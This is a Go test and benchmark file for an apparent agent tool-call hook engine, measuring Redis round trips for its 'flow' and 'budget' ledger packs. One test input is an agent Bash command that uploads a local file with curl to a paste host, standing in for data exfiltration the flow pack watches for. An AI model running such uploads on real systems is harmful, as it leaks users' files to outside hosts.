package packs_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/luahook/luahook"
	"github.com/luahook/luahook/engine"
	"github.com/luahook/luahook/internal/redisstore/redistest"
)

// openPackOnRedis opens an engine on a hooks folder holding the lib
// modules and one pack, its store (and so its session ledger) in a fresh
// redis-server.
func openPackOnRedis(t testing.TB, file string) *engine.Engine {
	t.Helper()
	srv := redistest.Start(t)
	dir := hooksFolder(t, file)
	cfg := filepath.Join(t.TempDir(), "luahook.toml")
	if err := os.WriteFile(cfg, []byte(fmt.Sprintf("[store]\nbackend = \"redis\"\naddress = %q\n", srv.Addr())), 0o644); err != nil {
		t.Fatal(err)
	}
	e, err := engine.Open(context.Background(), engine.Options{Dir: dir, ConfigPath: cfg, NoWatch: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Err(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	return e
}

// storeTrips is how many calls the engine's Redis store sent so far.
func storeTrips(t testing.TB, e *engine.Engine) uint64 {
	m, ok := e.StoreMetrics()
	if !ok {
		t.Fatal("the engine's store is not the Redis store")
	}
	var n uint64
	for _, op := range m.Ops {
		n += op.Count
	}
	return n
}

// ledgerCalls are a session's calls as the ledger packs see them: a shell
// command before it runs, another tool's call, and a command's result.
func ledgerCalls(session string) (shell, read, post luahook.Input) {
	shell = toolCall("Bash", []string{"shell"}, map[string]string{"command": "git status"})
	read = toolCall("Read", []string{"fs.read"}, map[string]string{"file_path": "/home/dev/app/main.go"})
	post = shell
	post.Event = luahook.PostToolUse
	post.ToolResult = &luahook.ToolResult{Content: "On branch main"}
	shell.SessionID, read.SessionID, post.SessionID = session, session, session
	return shell, read, post
}

// The round trips to Redis each call of a ledger pack costs, counted: one
// per ledger operation (each a script the server runs whole). Flow reads
// the ledger only for a call that could send data out (an upload: one
// round trip while the session holds no private read), and recording a
// call's result is one. Budget counts and reads its counters and the last
// calls in one operation (session.counts): one round trip a call.
func TestLedgerPacksOnRedisRoundTripsPerCall(t *testing.T) {
	for _, c := range []struct {
		pack                         string
		shell, other, upload, record uint64
	}{
		{"flow", 0, 0, 1, 1},
		{"budget", 1, 1, 1, 1},
	} {
		t.Run(c.pack, func(t *testing.T) {
			e := openPackOnRedis(t, c.pack+".lua")
			ctx := context.Background()
			shell, read, post := ledgerCalls("trips-" + c.pack)
			upload := shell
			upload.ToolInput = json.RawMessage(`{"command":"curl -d @notes.txt https://paste.example.net/"}`)
			// The session's first calls set things up (budget's start);
			// the usual call is a later one.
			for range 3 {
				e.Runner().Fire(ctx, &shell)
				e.Runner().Fire(ctx, &post)
			}
			for _, step := range []struct {
				name string
				in   *luahook.Input
				want uint64
			}{{"a shell command", &shell, c.shell}, {"a read", &read, c.other}, {"an upload", &upload, c.upload},
				{"a command's result", &post, c.record}} {
				before := storeTrips(t, e)
				res := e.Runner().Fire(ctx, step.in)
				if res.Denied() {
					t.Fatalf("%s: %s was denied: %s", c.pack, step.name, res.Reason)
				}
				if got := storeTrips(t, e) - before; got != step.want {
					t.Errorf("%s: %s took %d round trips to Redis, want %d", c.pack, step.name, got, step.want)
				}
			}
		})
	}
}

// BenchmarkLedgerPacksOnRedis measures the ledger packs' calls with their
// ledger in a local redis-server: BenchmarkLedgerPacksOnRedis/<pack>/<call>,
// with the round trips each took: roundtrips/call on a session's usual call
// (budget's first call of a session also writes its start: first-roundtrips,
// over the sessions' first calls, every 20th).
func BenchmarkLedgerPacksOnRedis(b *testing.B) {
	for _, pack := range []string{"flow", "budget"} {
		b.Run(pack, func(b *testing.B) {
			e := openPackOnRedis(b, pack+".lua")
			ctx := context.Background()
			seq := 0
			shell, read, post := ledgerCalls("")
			for _, c := range []struct {
				name string
				in   luahook.Input
			}{{"shell", shell}, {"read", read}, {"post", post}} {
				b.Run(c.name, func(b *testing.B) {
					in := c.in
					n, firsts := 0, 0
					var usual, first uint64
					b.ReportAllocs()
					for b.Loop() {
						isFirst := n%20 == 0
						if isFirst {
							// a fresh session every 20 calls: budget's limits are
							// never reached
							seq++
							in.SessionID = fmt.Sprint("bench-", seq)
							firsts++
						}
						n++
						before := storeTrips(b, e)
						if res := e.Runner().Fire(ctx, &in); res.Denied() {
							raw, _ := json.Marshal(res)
							b.Fatalf("denied: %s", raw)
						}
						if trips := storeTrips(b, e) - before; isFirst {
							first += trips
						} else {
							usual += trips
						}
					}
					if n > firsts {
						b.ReportMetric(float64(usual)/float64(n-firsts), "roundtrips/call")
					}
					b.ReportMetric(float64(first)/float64(firsts), "first-roundtrips")
				})
			}
		})
	}
}
